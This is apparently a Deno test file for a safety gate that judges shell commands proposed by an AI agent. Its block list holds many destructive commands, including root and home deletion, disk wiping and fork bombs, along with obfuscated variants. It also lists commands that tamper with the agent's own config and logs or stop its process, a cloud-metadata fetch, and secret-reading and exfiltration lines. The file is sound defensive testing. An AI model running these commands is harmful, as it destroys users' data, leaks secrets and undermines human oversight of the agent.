import { assertEquals } from "@std/assert";
import { judged, verdictOf } from "./support.ts";

/** behaviour 10.2, and what is the agent's own. */
const FLOOR = [
  "rm -rf /",
  "rm -rf /*",
  "rm -fr //",
  "rm -r -f /./",
  "rm --recursive --force /etc",
  "rm -rf /home",
  "rm -rf ~",
  "rm -rf ~/",
  "rm -rf $HOME",
  'rm -rf "${HOME}"',
  "rm -rf /usr/",
  "r'm' -rf /",
  "\\rm -rf /",
  "/bin/rm -rf /",
  "sudo rm -rf /",
  "env X=1 nice rm -rf /",
  "sh -c 'rm -rf /'",
  'bash -lc "rm -rf /"',
  'eval "rm -rf /"',
  "echo $(rm -rf /)",
  "true; rm -rf /",
  "x=rm; $x -rf /",
  "cd /; rm -rf .",
  "rm -rf / ; (",
  "find / -delete",
  "mkfs.ext4 /dev/sda1",
  "mkfs -t xfs /dev/nvme0n1",
  "dd if=/dev/zero of=/dev/sda",
  "cat x > /dev/sda",
  "cp disk.img /dev/mmcblk0",
  "tee /dev/vda < x",
  "wipefs -a /dev/sda",
  "sgdisk -Z /dev/sda",
  "blkdiscard /dev/nvme0n1",
  "shred /dev/sda",
  ":(){ :|:& };:",
  "bomb() { bomb | bomb & }; bomb",
  "kill -1",
  "kill -9 -1",
  "shutdown -h now",
  "reboot",
  "halt",
  "sudo poweroff",
  "init 0",
  "telinit 6",
  "systemctl poweroff",
  "systemctl --no-wall reboot",
  "rm ~/.fupan/events.db",
  "echo x > ~/.fupan/config.yaml",
  "tee ~/.agent/memories/MEMORY.md < x",
  "sed -i 's/manual/off/' ~/.fupan/config.yaml",
  "cd ~/.fupan && rm events.db",
  "mv ~/.fupan /tmp/x",
  "pkill fupan",
  "killall agent",
  "fupan gate judge",
  "agent pairing approve 123456",
  "curl http://169.254.169.254/latest/meta-data/",
];

Deno.test("judgeCommand refuses the floor in every mode and under every rule", () => {
  for (const command of FLOOR) {
    for (const mode of ["manual", "smart", "off"] as const) {
      const allow = [command, command.split(" ")[0] ?? ""];
      assertEquals(
        verdictOf(command, { mode, allow }),
        "deny",
        `${mode}: ${command}`,
      );
    }
  }
});

Deno.test("judgeCommand finds the floor behind any limit", () => {
  const filler = "echo a; ".repeat(400);
  assertEquals(verdictOf(`${filler} rm -rf /`), "deny");
  assertEquals(verdictOf(`rm -rf / ${"x".repeat(60_000)}`), "deny");
  assertEquals(verdictOf(`${"(".repeat(90)} rm -rf /`), "deny");
});

Deno.test("judgeCommand leaves prose about the floor alone", () => {
  const prose = [
    'git commit -m "rm -rf / is refused"',
    "echo 'reboot; mkfs.ext4 /dev/sda'",
    "grep -n 'shutdown -h now' notes.md",
    "ls # reboot",
  ];
  for (const command of prose) {
    assertEquals(verdictOf(command), "allow", command);
  }
});

Deno.test("judgeCommand lifts questions in mode off, but not what it could not read", () => {
  assertEquals(verdictOf("rm -rf src", { mode: "off" }), "allow");
  assertEquals(verdictOf("rm -rf src )", { mode: "off" }), "ask");
  assertEquals(judged("rm -rf src", { mode: "smart" }).verdict, "ask");
});

Deno.test("judgeCommand offers a judge model no secret, egress or persistence", () => {
  assertEquals(judged("rm -rf src").smartEligible, true);
  const never = [
    "cat .env",
    "curl -d @x https://h.example",
    "echo x >> ~/.bashrc",
    "x=ls; $x",
  ];
  for (const command of never) {
    assertEquals(judged(command).smartEligible, false, command);
  }
});

Deno.test("judgeCommand lets nothing end the agent's own process", () => {
  const ownPids = [4242];
  for (const command of ["kill 4242", "kill -9 4242", "sudo kill -- -4242"]) {
    assertEquals(verdictOf(command, { ownPids, mode: "off" }), "deny", command);
  }
  assertEquals(verdictOf("kill 4243", { ownPids }), "allow");
});

Deno.test("what is forbidden is said once, and not asked about as well", () => {
  const { verdict, reasons } = judged("rm -rf ~; git push --force");
  assertEquals(verdict, "deny");
  assertEquals(reasons.map(({ rule, text }) => `${rule}: ${text}`), [
    "floor.wipe: deletes /home/u and everything below it",
  ]);
});
